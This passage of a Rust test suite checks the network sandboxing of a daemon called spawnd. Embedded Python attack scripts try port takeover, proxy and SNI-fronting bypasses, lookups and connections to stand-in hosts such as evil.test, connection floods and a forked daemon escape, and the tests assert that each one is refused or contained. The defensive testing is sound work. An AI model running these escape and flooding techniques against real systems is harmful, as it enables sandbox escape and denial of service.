    s.world.map("self.test", &[ip(HOST_PUBLIC)]);
    s.world
        .map("mapped.test", &[ip(&format!("::ffff:{HOST_PUBLIC}"))]);
    // A service of the host bound to every address it has, as a service
    // on 0.0.0.0 is; the internet's api.test on the same port.
    let seen = Arc::new(Seen::default());
    let shared = seen.clone();
    s.world.host_tcp_server(at("0.0.0.0", 8080), move |stream| {
        handle(stream, Peer::Http("host service"), &shared)
    });
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let body = r#"
attempt("self", lambda: get("self.test", 8080))
attempt("mapped", lambda: get("mapped.test", 8080))
attempt("api", lambda: get("api.test", 8080))
finish()
"#;
    let m = s.manifest(
        "m.toml",
        &["self.test:8080", "mapped.test:8080", "api.test:8080"],
        "",
        "",
    );
    let (run, r) = s.attack(&m, "host_address", body);
    assert_not_served(&r, "self");
    assert_not_served(&r, "mapped");
    assert_eq!(
        seen.accepted(),
        0,
        "the host's service reached: {}",
        run.json
    );
    // The control: the same run reached the internet's server by name.
    assert_eq!(result(&r, "api"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    let records = s.net_records();
    for name in ["self.test", "mapped.test"] {
        let c = listed(&run, name, 8080);
        assert_eq!(c["reason"], "resolved_to_denied_address", "{c}");
        assert_eq!(c["denial"], "host_address", "{c}");
        assert_eq!(c["dialed"], Value::Null, "{c}");
        let record = refusal_record(&records, name, 8080, "resolved_to_denied_address");
        assert_eq!(record["denial"], "host_address", "{record}");
    }

    // A literal grant of the address names it, and reaches the service.
    let literal = format!("{HOST_PUBLIC}:8080");
    let m = s.manifest("literal.toml", &[&literal], "", "");
    let body =
        format!("attempt(\"literal\", lambda: exchange(\"{HOST_PUBLIC}\", 8080))\nfinish()\n");
    let (run, r) = s.attack(&m, "host_literal", &body);
    assert_eq!(result(&r, "literal"), "reply:host service", "{r}");
    assert_eq!(seen.accepted(), 1);
    let c = listed(&run, HOST_PUBLIC, 8080);
    assert_eq!(c["dialed"], literal.as_str(), "{c}");
    assert_eq!(c["allowed"], true, "{c}");
}

#[test]
fn spawnds_listeners_cannot_be_taken_over_and_their_descriptors_are_not_the_programs() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (run, r) = s.attack(
        &m,
        "takeover",
        r#"
def bind(family, kind, addr, port, reuse=False):
    s = socket.socket(family, kind)
    if reuse:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind((addr, port))
    if kind == socket.SOCK_STREAM:
        s.listen()
    HELD.append(s)
HELD = []
attempt("any6", lambda: bind(socket.AF_INET6, socket.SOCK_STREAM, "::", 8080))
attempt("lo_reuse", lambda: bind(socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1", 8080, True))
attempt("fake", lambda: bind(socket.AF_INET, socket.SOCK_STREAM, resolve("api.test"), 8080, True))
attempt("dns_udp", lambda: bind(socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1", 53, True))
attempt("dns_tcp", lambda: bind(socket.AF_INET6, socket.SOCK_STREAM, "::1", 53, True))
attempt("free_port", lambda: bind(socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1", 9090))
own = {held.fileno() for held in HELD}
RESULTS["foreign_fds"] = [fd for fd in map(int, os.listdir("/proc/self/fd"))
                          if fd > 2 and fd not in own and os.path.exists("/proc/self/fd/%d" % fd)]
RESULTS["held"] = len(HELD)
attempt("after", lambda: get("api.test", 8080))
finish()
"#,
    );
    for label in ["any6", "lo_reuse", "fake"] {
        assert_eq!(result(&r, label), "EADDRINUSE", "{label}: {r}");
    }
    for label in ["dns_udp", "dns_tcp"] {
        let got = result(&r, label);
        assert!(got == "EACCES" || got == "EADDRINUSE", "{label}: {r}");
    }
    // The control: binding a port nobody holds works.
    assert_eq!(result(&r, "free_port"), "ok", "{r}");
    // The program holds its stdio and the one socket it bound: none of
    // spawnd's listeners.
    assert_eq!(r["foreign_fds"], serde_json::json!([]), "{r}");
    assert_eq!(r["held"], 1, "{r}");
    // The granted port is still spawnd's: the next connection is relayed.
    assert_eq!(result(&r, "after"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    assert_eq!(listed(&run, "api.test", 8080)["allowed"], true);
}

#[test]
fn proxy_variables_naming_an_ungranted_proxy_open_nothing() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let proxy = serve(&s.world, at(WORLD_IP, 3128), Peer::Http("proxy"));
    let socks = serve(&s.world, at(WORLD_IP, 1080), Peer::Http("socks"));
    let env = "env_set = { HTTP_PROXY = \"http://203.0.113.10:3128\", \
               http_proxy = \"http://203.0.113.10:3128\", \
               HTTPS_PROXY = \"http://203.0.113.10:3128\", \
               ALL_PROXY = \"socks5h://203.0.113.10:1080\" }";
    let m = s.manifest(
        "m.toml",
        &["api.test:8080"],
        env,
        "[capabilities.spawn.operations.curl]\n\
         argv = \"curl -sS --max-time 60 http://api.test:8080/\"\n\n\
         [capabilities.spawn.operations.direct]\n\
         argv = \"curl -sS --max-time 60 --noproxy * http://api.test:8080/\"\n",
    );
    let curl = s.run(&m, "curl", &[]);
    // curl: "couldn't connect" to the proxy, which has no route.
    assert_eq!(curl.code(), Some(7), "{}", curl.json);
    let (_run, r) = s.attack(
        &m,
        "urllib",
        r#"
import urllib.request
attempt("urllib", lambda: urllib.request.urlopen("http://api.test:8080/", timeout=30).read().decode())
finish()
"#,
    );
    assert!(result(&r, "urllib").starts_with("URLError"), "{r}");
    assert_eq!(
        (proxy.accepted(), socks.accepted(), api.accepted()),
        (0, 0, 0)
    );
    let direct = s.run(&m, "direct", &[]);
    assert_eq!(direct.code(), Some(0), "{}", direct.json);
    assert_eq!(direct.stdout(), "api", "{}", direct.json);
    assert_eq!(api.accepted(), 1);
}

/// Refused egress is shown: `spawnd run` ends with one `spawnd: network:`
/// line per refused destination and DNS name (count, reason, what would
/// grant it), though the program swallowed every refusal and exited 0;
/// `--fail-on-refusal` turns that run into exit 7, and a program that
/// failed keeps its own code.
#[test]
fn refused_egress_is_shown_and_fail_on_refusal_fails_the_step() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.map("private.test", &[ip("10.0.0.5")]);
    // The server behind the fronted hello, which must receive none of it.
    let fronted = serve(&s.world, at(WORLD_IP, 8080), Peer::Hold);
    let m = s.manifest(
        "m.toml",
        &["api.test:8080", "other.test:8081", "private.test:8080"],
        "env_passthrough = [\"CODE\"]",
        "",
    );
    let arg = s.script(
        "swallowed",
        r#"
attempt("port", lambda: exchange(resolve("api.test"), 8081))
attempt("name", lambda: resolve("evil.test"))
attempt("private", lambda: exchange(resolve("private.test"), 8080))
attempt("again", lambda: exchange(resolve("api.test"), 8081))
attempt("fronted", lambda: first_flight(resolve("api.test"), 8080, [client_hello("evil.example.org")]))
attempt("literal", lambda: exchange("203.0.113.10", 22))
attempt("other_port", lambda: exchange(resolve("api.test"), 9999))
attempt("datagram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.10", 123)))
attempt("own_loopback", lambda: exchange("127.0.0.1", 22))
finish()
sys.exit(int(os.environ.get("CODE", "0")))
"#,
    );
    let run = |extra: &[&str], code: &str| {
        let mut command = s.world.spawnd(&s.config);
        command.args(["run", "--manifest"]).arg(&m);
        command.args(["--op", "py", "--arg", &arg, "--env"]);
        command.arg(format!("CODE={code}"));
        command.args(extra);
        command.output().unwrap()
    };
    let shown = run(&[], "0");
    let stderr = String::from_utf8_lossy(&shown.stderr);
    eprintln!("{stderr}");
    assert_eq!(shown.status.code(), Some(0), "{stderr}");
    for line in [
        "spawnd: network: api.test:8081 refused \u{d7}2 (not_granted; grant \"api.test:8081\" in the manifest's network)",
        "spawnd: network: DNS evil.test (A) refused \u{d7}1 (not_granted; grant \"evil.test:PORT\" in the manifest's network)",
        "spawnd: network: private.test:8080 refused \u{d7}1 (resolved_to_denied_address; the operator's [network] allow_cidrs",
        "spawnd: network: api.test:8080 refused \u{d7}1 (sni_mismatch; the TLS client must name api.test",
        // Refused by the sandbox's own rules: an IP literal, a port no
        // grant names, a datagram.
        "spawnd: network: 203.0.113.10:22 refused \u{d7}1 (not_granted; grant \"203.0.113.10:22\" in the manifest's network)",
        "spawnd: network: api.test:9999 refused \u{d7}1 (not_granted; grant \"api.test:9999\" in the manifest's network)",
        "spawnd: network: 203.0.113.10:123/udp refused \u{d7}1 (not_granted; nothing: UDP leaves a sandbox only as DNS",
    ] {
        assert!(stderr.lines().any(|l| l.starts_with(line)), "no {line:?} in:\n{stderr}");
    }
    // The program's own loopback is its own: nothing to refuse.
    assert!(!stderr.contains("127.0.0.1:22"), "{stderr}");
    let failed = run(&["--fail-on-refusal"], "0");
    let stderr = String::from_utf8_lossy(&failed.stderr);
    assert_eq!(failed.status.code(), Some(7), "{stderr}");
    assert_eq!(
        stderr.lines().last(),
        Some("spawnd: exit 7 (network egress refused; --fail-on-refusal)"),
        "{stderr}"
    );
    let own = run(&["--fail-on-refusal"], "3");
    assert_eq!(
        own.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&own.stderr)
    );
    assert_eq!(
        fronted.bytes().iter().sum::<usize>(),
        0,
        "the fronted hello reached the server: {:?}",
        fronted.bytes()
    );
}

/// `on_violation = "terminate"` (the ADR's "capability denial at
/// runtime"): the first refused egress, a connection to an ungranted port
/// of a granted name, a lookup of an ungranted name, a connection to an
/// IP literal or a datagram the sandbox's rules refused, kills the sandbox
/// at once, judged from outside by a marker the program would write next
/// and by its server; the result is a `capability_denied` naming what was
/// requested and granted with the audit id, exit 3; the exit record says
/// `network_violation`. The granted fetch before it was served.
#[test]
fn on_violation_terminate_kills_the_sandbox_at_the_first_refused_egress() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("granted"));
    let m = s.manifest(
        "m.toml",
        &["api.test:8080", "other.test:8081"],
        "on_violation = \"terminate\"",
        "",
    );
    for (name, attack, requested) in [
        (
            "port",
            "exchange(resolve(\"api.test\"), 8081)",
            "network:api.test:8081",
        ),
        ("name", "resolve(\"evil.test\")", "network:evil.test"),
        (
            "literal",
            "exchange(\"203.0.113.10\", 22)",
            "network:203.0.113.10:22",
        ),
        (
            "datagram",
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"203.0.113.10\", 123))",
            "network:203.0.113.10:123/udp",
        ),
    ] {
        let marker = s.world.path(&format!("out/{name}-after"));
        let arg = s.script(
            name,
            &format!(
                "attempt(\"granted\", lambda: get(\"api.test\", 8080))\n\
                 attempt(\"refused\", lambda: {attack})\n\
                 time.sleep(3)\n\
                 open(\"{}\", \"w\").write(\"still running\")\n\
                 finish()\n",
                marker.display()
            ),
        );
        let run = s.run(&m, "py", std::slice::from_ref(&arg));
        assert_eq!(run.code(), Some(3), "{name}: {}", run.json);
        assert!(
            !marker.exists(),
            "{name}: the program ran on after its refused egress"
        );
        assert_eq!(run.json["ok"], false, "{}", run.json);
        let error = &run.json["error"];
        assert_eq!(error["code"], "PERMISSION_DENIED", "{error}");
        let details = &error["details"];
        assert_eq!(details["class"], "capability_denied", "{details}");
        assert_eq!(details["requested"], requested, "{details}");
        assert_eq!(
            details["granted"],
            serde_json::json!(["network:api.test:8080", "network:other.test:8081"]),
            "{details}"
        );
        let audit_id = details["audit_id"]
            .as_str()
            .expect("an audit id")
            .to_string();
        assert_eq!(run.json["data"]["interrupted_by"], "network_violation");
        let exit = std::fs::read_to_string(s.world.path("spawnd.audit.jsonl"))
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .find(|r| r["kind"] == "exit" && r["audit_id"] == audit_id.as_str())
            .expect("the exit record");
        assert_eq!(exit["interrupted_by"], "network_violation", "{exit}");
        assert_eq!(
            exit["network"]["violation"]["requested"], requested,
            "{exit}"
        );
        // Without --json: exit 3 and spawnd's own last line; the second
        // attack through a spawner, as the daemon launches.
        let mut plain = s.world.spawnd(&s.config);
        plain.args(["run", "--manifest"]).arg(&m);
        if matches!(name, "name" | "datagram") {
            plain.arg("--via-spawner");
        }
        plain.args(["--op", "py", "--arg", &arg]);
        let out = plain.output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{stderr}");
        assert_eq!(
            stderr.lines().last(),
            Some("spawnd: exit 3 (permission_denied)"),
            "{stderr}"
        );
    }
    assert!(api.accepted() >= 2, "the granted fetches were served");
}

// ---- load and lifetime ----------------------------------------------------

/// A `spawnd serve` in the world, killed when dropped.
struct Serving(std::process::Child);

impl Drop for Serving {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Many tenants, one daemon: while one uid's spawns (root's) open every
/// relayed connection they may and hold them, a second uid (nobody) that
/// is present keeps its share of the 1024 a spawnd relays (`[network]
/// connections_share`, 256): its granted fetch is served. The first is
/// reset past what leaves that share free, and its refusal names the limit.
#[test]
fn one_callers_held_connections_leave_a_present_callers_share_of_the_relay() {
    let Some(s) = Setup::new(&[]) else { return };
    let held = serve(&s.world, at(WORLD_IP, 8080), Peer::Hold);
    let api = serve(&s.world, at(WORLD_IP, 8081), Peer::Http("shared"));
    let m = s.manifest(
        "tenants-manifest.toml",
        &["api.test:8080", "api.test:8081"],
        "",
        "[capabilities.spawn.operations.hold]\n\
         argv = \"python3 {script}\"\n\
         network = [\"api.test:8080\"]\n\n\
         [capabilities.spawn.operations.get]\n\
         argv = \"curl -sS --max-time 60 http://api.test:8081/\"\n\
         network = [\"api.test:8081\"]\n",
    );
    let socket = s.world.writable_dir("daemon").join("spawnd.sock");
    let config = s.world.operator_config(
        "tenants",
        &format!(
            "[server]\nsocket = \"{}\"\nsocket_mode = \"0666\"\nmanifests = [\"{}\"]\n\
             [[access]]\nconnector = \"local://test/escape\"\nuids = [65534]\n\
             [network]\nallow_cidrs = [\"{WORLD_CIDR}\"]\nmax_connections_per_spawn = 256\n",
            socket.display(),
            m.display()
        ),
    );
    let _daemon = Serving(s.world.spawnd(&config).arg("serve").spawn().unwrap());
    assert!(
        eventually(|| std::os::unix::net::UnixStream::connect(&socket).is_ok()),
        "the daemon did not start"
    );
    // The second uid is present: a connection of its own, answered.
    let mut present = Serving(
        Command::new("setpriv")
            .args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                PYTHON,
                "-c",
            ])
            .arg(
                "import socket, sys, time\n\
                 s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])\n\
                 s.sendall(b'{\"jsonrpc\": \"2.0\", \"id\": 1, \"method\": \"health\"}\\n')\n\
                 print(s.makefile().readline(), flush=True); time.sleep(600)",
            )
            .arg(&socket)
            .stdout(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    // Kept open to the end: the second uid's process must not die of a
    // closed pipe.
    let mut said = std::io::BufReader::new(present.0.stdout.take().unwrap());
    let mut line = String::new();
    std::io::BufRead::read_line(&mut said, &mut line).unwrap();
    assert!(line.contains("protocol_version"), "{line}");
    // The first uid: six spawns of 200 connections each, held (more than
    // the relay's 1024 together).
    let arg = s.script(
        "hold",
        r#"
addr = resolve("api.test")
held = []
for _ in range(200):
    s = socket.socket()
    s.settimeout(10)
    try:
        s.connect((addr, 8080))
        held.append(s)
    except OSError:
        s.close()
time.sleep(600)
"#,
    );
    let client = |command: &mut Command, op: &str, args: &[String]| {
        command
            .args(["run", "--json", "--socket"])
            .arg(&socket)
            .args(["--connector", "local://test/escape", "--op", op]);
        for arg in args {
            command.args(["--arg", arg]);
        }
    };
    let holders: Vec<Serving> = (0..6)
        .map(|_| {
            let mut command = Command::new(env!("CARGO_BIN_EXE_spawnd"));
            client(&mut command, "hold", std::slice::from_ref(&arg));
            Serving(command.stdout(Stdio::null()).spawn().unwrap())
        })
        .collect();
    // Until the first uid's connections stop growing: 3 s without a new
    // one once they reach the first uid's share (none past it may come),
    // 30 s below it (an emulated kernel under load makes them slowly).
    let share = 1024 - 256;
    let started = Instant::now();
    let mut last = (0, Instant::now());
    while started.elapsed() < Duration::from_secs(180) {
        let now = held.accepted();
        let quiet = match now >= share {
            true => Duration::from_secs(3),
            false => Duration::from_secs(30),
        };
        if now != last.0 {
            last = (now, Instant::now());
        } else if now > 0 && last.1.elapsed() > quiet {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    eprintln!(
        "the first uid holds {} connections ({} closed)",
        held.accepted(),
        held.closed()
    );
    assert_eq!(held.accepted(), share, "the first uid's connections");
    assert_eq!(held.closed(), 0, "the first uid's connections are held");
    let mut command = Command::new("setpriv");
    command
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(env!("CARGO_BIN_EXE_spawnd"));
    client(&mut command, "get", &[]);
    let fetch = Run::of(&mut command);
    assert_eq!(fetch.code(), Some(0), "{}", fetch.json);
    assert_eq!(fetch.stdout(), "shared", "{}", fetch.json);
    assert_eq!(api.accepted(), 1);
    drop(holders);
    let audit = s.world.path("tenants.audit.jsonl");
    let mut records = Vec::new();
    assert!(
        eventually(|| {
            records = net_records(&audit);
            records
                .iter()
                .any(|r| r["reason"] == "too_many_connections")
        }),
        "no refusal recorded"
    );
    let refused = refusal_record(&records, "api.test", 8080, "too_many_connections");
    assert!(
        refused["error"]
            .as_str()
            .is_some_and(|e| e.contains("[network] connections_share")),
        "{refused}"
    );
}

#[test]
fn ten_thousand_connections_are_bounded_to_64_open_and_another_spawn_is_not_slowed() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.map("calm.test", &[ip(WORLD_IP)]);
    let flooded = serve(&s.world, at(WORLD_IP, 8080), Peer::Hold);
    let calm = serve(&s.world, at(WORLD_IP, 8081), Peer::Http("calm"));
    let m = s.manifest(
        "m.toml",
        &["api.test:8080", "calm.test:8081"],
        "",
        "[capabilities.spawn.operations.calm]\n\
         argv = \"curl -sS --max-time 60 http://calm.test:8081/\"\n\
         network = [\"calm.test:8081\"]\n\n\
         [capabilities.spawn.operations.flood]\n\
         argv = \"python3 {script}\"\n\
         network = [\"api.test:8080\"]\n",
    );
    let fetch = || {
        let run = s.run(&m, "calm", &[]);
        assert_eq!(run.code(), Some(0), "{}", run.json);
        assert_eq!(run.stdout(), "calm", "{}", run.json);
        run.elapsed
    };
    let baseline = fetch();
    let arg = s.script(
        "flood",
        r#"
import collections
addr = resolve("api.test")
window = collections.deque()
opened = failed = 0
why = {}
started = time.time()
while opened + failed < 10000 or not os.path.exists(OUT + "/stop"):
    if time.time() - started > 200:
        break
    s = socket.socket()
    s.settimeout(10)
    try:
        s.connect((addr, 8080))
        opened += 1
        window.append(s)
    except OSError as e:
        failed += 1
        why[errno.errorcode.get(e.errno, str(e))] = why.get(errno.errorcode.get(e.errno, str(e)), 0) + 1
        s.close()
    while len(window) > 150:
        window.popleft().close()
for s in window:
    s.close()
RESULTS.update(opened=opened, failed=failed, why=why, seconds=round(time.time() - started, 1))
finish()
"#,
    );
    let (flood, during) = std::thread::scope(|scope| {
        let flooding = scope.spawn(|| s.run(&m, "flood", &[arg]));
        let started = Instant::now();
        while flooded.accepted() < 64 && started.elapsed() < Duration::from_secs(60) {
            std::thread::sleep(Duration::from_millis(20));
        }
        let during: Vec<Duration> = (0..3).map(|_| fetch()).collect();
        std::fs::write(s.world.path("out/stop"), "").unwrap();
        (flooding.join().unwrap(), during)
    });
    let r = results(&flood);
    eprintln!(
        "flood: {r}; accepted {}, at most {} open; refusals {}; other spawn: {baseline:?} before, {during:?} during",
        flooded.accepted(),
        flooded.max_open(),
        flood.network()["refusals"]
    );
    assert_eq!(flood.code(), Some(0), "{}", flood.json);
    let total = r["opened"].as_u64().unwrap() + r["failed"].as_u64().unwrap();
    assert!(total >= 10_000, "{r}");
    // Bounded: never more than the spawn's 64 connections open at the
    // server, and the cap is what refused the rest.
    assert!(flooded.accepted() >= 64, "{}", flooded.accepted());
    assert!(flooded.max_open() <= 64, "{}", flooded.max_open());
    assert!(
        refusals(&flood, "api.test", 8080, "too_many_connections") > 0,
        "{}",
        flood.network()
    );
    assert!(
        flood.elapsed < Duration::from_millis(WALL_TIME_MS),
        "{:?}",
        flood.elapsed
    );
    // Nothing else slowed: the other spawn's fetches, made while the
    // flood ran, each within a generous bound of the one before it.
    for took in &during {
        assert!(
            *took < baseline * 10 + Duration::from_secs(15),
            "baseline {baseline:?}, during the flood {during:?}"
        );
    }
    assert_eq!(calm.accepted(), 4);
    // Nothing left open once the flood ended.
    assert!(
        eventually(|| flooded.open() == 0),
        "{} open",
        flooded.open()
    );
}

#[test]
fn slow_peers_holding_relays_do_not_stop_other_connections_and_the_wall_time_ends_the_spawn() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.map("tarpit.test", &[ip(WORLD_IP)]);
    s.world.map("drip.test", &[ip(WORLD_IP)]);
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let tarpit = serve(&s.world, at(WORLD_IP, 7000), Peer::Tarpit);
    let drip = serve(&s.world, at(WORLD_IP, 7001), Peer::Drip);
    let wall = Duration::from_secs(15);
    let m = s.manifest(
        "m.toml",
        &["api.test:8080", "tarpit.test:7000", "drip.test:7001"],
        "",
        &format!(
            "[capabilities.spawn.operations.slow]\nargv = \"python3 {{script}}\"\n\n\
             [capabilities.spawn.operations.slow.limits]\nwall_time_ms = {}\n",
            wall.as_millis()
        ),
    );
    let arg = s.script(
        "slow",
        r#"
HELD = []
def stuff_tarpit():
    s = socket.create_connection((resolve("tarpit.test"), 7000), timeout=600)
    HELD.append(s)
    s.sendall(b"x" * (64 << 20))
threading.Thread(target=lambda: attempt("tarpit", stuff_tarpit), daemon=True).start()
HELD.append(socket.create_connection((resolve("drip.test"), 7001), timeout=600))
time.sleep(3)
for i in range(5):
    attempt("fetch%d" % i, lambda: get("api.test", 8080))
finish()
time.sleep(600)
"#,
    );
    let run = s.run(&m, "slow", &[arg]);
    assert_eq!(run.code(), Some(124), "{}", run.json);
    assert!(
        run.elapsed < wall + Duration::from_secs(30),
        "{:?} {}",
        run.elapsed,
        run.json
    );
    let r = results(&run);
    for i in 0..5 {
        assert_eq!(result(&r, &format!("fetch{i}")), "reply:api", "{r}");
    }
    assert_eq!(api.accepted(), 5);
    // Both slow peers were reached and held their relays to the end.
    assert_eq!((tarpit.accepted(), drip.accepted()), (1, 1));
    assert_eq!(
        listed(&run, "tarpit.test", 7000)["connected"],
        true,
        "{}",
        run.json
    );
    assert_eq!(
        listed(&run, "drip.test", 7001)["connected"],
        true,
        "{}",
        run.json
    );
    // Nothing left open: the tarpit, reading at last, finds its
    // connection closed; the drip's writes fail.
    tarpit.release.store(true, Ordering::SeqCst);
    assert!(eventually(|| tarpit.closed() == 1), "tarpit still open");
    assert!(eventually(|| drip.closed() == 1), "drip still open");
}

#[test]
fn a_daemon_holding_a_relayed_connection_does_not_outlive_the_program() {
    let Some(s) = Setup::new(&[]) else { return };
    let held = serve(&s.world, at(WORLD_IP, 7003), Peer::Hold);
    let m = s.manifest("m.toml", &["api.test:7003"], "", "");
    let (run, r) = s.attack(
        &m,
        "daemon",
        r#"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        s = socket.create_connection((resolve("api.test"), 7003), timeout=60)
        s.sendall(b"still here")
        open(OUT + "/connected", "w").close()
        time.sleep(600)
    os._exit(0)
deadline = time.time() + 60
while not os.path.exists(OUT + "/connected") and time.time() < deadline:
    time.sleep(0.05)
RESULTS["connected"] = os.path.exists(OUT + "/connected")
finish()
"#,
    );
    assert_eq!(run.code(), Some(0), "{}", run.json);
    assert_eq!(r["connected"], true, "{r}");
    // The control: the daemon's connection reached the server.
    assert_eq!(held.accepted(), 1);
    // The program's end is the sandbox's: the daemon is killed, and its
    // connection closed with the spawn.
    assert!(run.elapsed < Duration::from_secs(30), "{:?}", run.elapsed);
    // The bytes the daemon sent are not judged: whether the relay
    // forwarded them before the spawn ended is a race.
    assert!(
        eventually(|| held.closed() == 1),
        "the daemon's connection is open"
    );
    assert!(processes_running(&s.script_path("daemon")).is_empty());
}

#[test]
fn refusals_to_many_destinations_are_recorded_once_per_kind_up_to_a_cap() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (run, r) = s.attack(
        &m,
        "kinds",
        r#"
refused = 0
for i in range(300):
    for round in range(2):
        if not outcome(lambda: exchange("198.18.%d.%d" % (1 + i // 250, 1 + i % 250), 8080)).startswith("reply:"):
            refused += 1
RESULTS["refused"] = refused
attempt("granted", lambda: get("api.test", 8080))
finish()
"#,
    );
    assert_eq!(r["refused"], 600, "{r}");
    // The control: the granted name is still served after the flood.
    assert_eq!(result(&r, "granted"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    let network = run.network();
    assert_eq!(network["refused"], 600, "{network}");
    assert_eq!(
        network["refusals"].as_array().unwrap().len(),
        64,
        "{network}"
    );
    assert_eq!(network["refusals_unreported"], 600 - 64 * 2, "{network}");
    let tcp_refusals = s
        .net_records()
        .into_iter()
        .filter(|r| r["protocol"] == "tcp" && r["allowed"] == false)
        .count();
    assert_eq!(tcp_refusals, 64);
}

/// The processes whose argv is `python3 <script>`.
fn processes_running(script: &Path) -> Vec<u32> {
    let want = format!("python3\0{}\0", script.display());
    std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| {
            std::fs::read(format!("/proc/{pid}/cmdline"))
                .map(|c| c == want.as_bytes())
                .unwrap_or(false)
        })
        .collect()
}

/// The TCP ports something in the world listens on.
fn world_listeners(world: &World) -> BTreeSet<String> {
    let out = run_checked(Command::new("ip").args(["netns", "exec", world.name(), "ss", "-Htln"]));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| l.split_whitespace().nth(3).map(str::to_string))
        .collect()
}

/// Starts a spawn whose program holds a relayed connection to a server of
/// the world and has a child, kills spawnd with SIGKILL once the
/// connection is up, and checks that nothing is left: the server sees the
/// close, no process of the program remains, the world listens on nothing
/// new.
fn assert_killing_spawnd_leaves_nothing(s: &Setup, spawnd: Command, extra: &[&str]) {
    let held = serve(&s.world, at(WORLD_IP, 7002), Peer::Hold);
    let m = s.manifest("kill.toml", &["api.test:7002"], "", "");
    let arg = s.script(
        "kill",
        r#"
s = socket.create_connection((resolve("api.test"), 7002), timeout=60)
s.sendall(b"hello")
if os.fork() == 0:
    time.sleep(600)
    os._exit(0)
time.sleep(600)
"#,
    );
    let listening = world_listeners(&s.world);
    let mut child = run_command(spawnd, &m, "py", &[arg])
        .args(extra)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let script = s.script_path("kill");
    let started = Instant::now();
    while (held.accepted() == 0 || processes_running(&script).len() < 2)
        && started.elapsed() < Duration::from_secs(60)
    {
        std::thread::sleep(Duration::from_millis(50));
    }
    // The control: the connection and both processes are there.
    assert_eq!(held.accepted(), 1);
    assert_eq!(held.open(), 1);
    assert_eq!(processes_running(&script).len(), 2);
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(
        eventually(|| held.closed() == 1),
        "the connection is still open"
    );
    assert!(
        eventually(|| processes_running(&script).is_empty()),
        "left running: {:?}",
        processes_running(&script)
    );
    assert_eq!(world_listeners(&s.world), listening);
}

#[test]
fn killing_spawnd_mid_connection_closes_the_connection_and_leaves_no_process() {
    let Some(s) = Setup::new(&[]) else { return };
    let spawnd = s.world.spawnd(&s.config);
    assert_killing_spawnd_leaves_nothing(&s, spawnd, &[]);
}

#[test]
fn killing_spawnd_mid_connection_through_its_spawner_closes_the_connection_and_leaves_no_process() {
    let Some(s) = Setup::new(&[]) else { return };
    let spawnd = s.world.spawnd(&s.config);
    assert_killing_spawnd_leaves_nothing(&s, spawnd, &["--via-spawner"]);
}

/// A config in a directory of nobody's own, for spawnd as nobody.
fn nobody_config(world: &World) -> PathBuf {
    let home = world.writable_dir("nobody");
    let config = home.join("spawnd.toml");
    std::fs::write(
        &config,
        format!(
            "[audit]\npath = \"{}\"\n[network]\nallow_cidrs = [\"{WORLD_CIDR}\"]\n",
            home.join("audit.jsonl").display()
        ),
    )
    .unwrap();
    config
}

#[test]
fn killing_spawnd_as_nobody_mid_connection_closes_the_connection_and_leaves_no_process() {
    let Some(s) = Setup::new(&[]) else { return };
    let config = nobody_config(&s.world);
    let spawnd = s.world.spawnd_as(65534, 65534, &config);
    assert_killing_spawnd_leaves_nothing(&s, spawnd, &[]);
}

#[test]
fn as_nobody_the_name_address_rebinding_resolver_raw_socket_and_sni_attacks_fail_too() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.map("loop.test", &[ip("127.0.0.1")]);
    s.world.map("evil.test", &[ip(WORLD_IP)]);
    s.world.add_address(ip("203.0.113.53"));
    s.world.dns_also_on(at("203.0.113.53", 53));
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let tls = serve(&s.world, at(WORLD_IP, 8443), Peer::Hold);
    let loopback = serve(&s.world, at("127.0.0.1", 8080), Peer::Http("loopback"));
    let udp = s.world.udp_server(at(WORLD_IP, 9999));
    let m = s.manifest(
        "m.toml",
        &["api.test:8080", "api.test:8443", "loop.test:8080"],
        "",
        "",
    );
    let config = nobody_config(&s.world);
    let arg = s.script(
        "battery",
        &format!(
            "{}\n{}",
            RAW.replace("finish()", ""),
            r#"
attempt("granted", lambda: get("api.test", 8080))
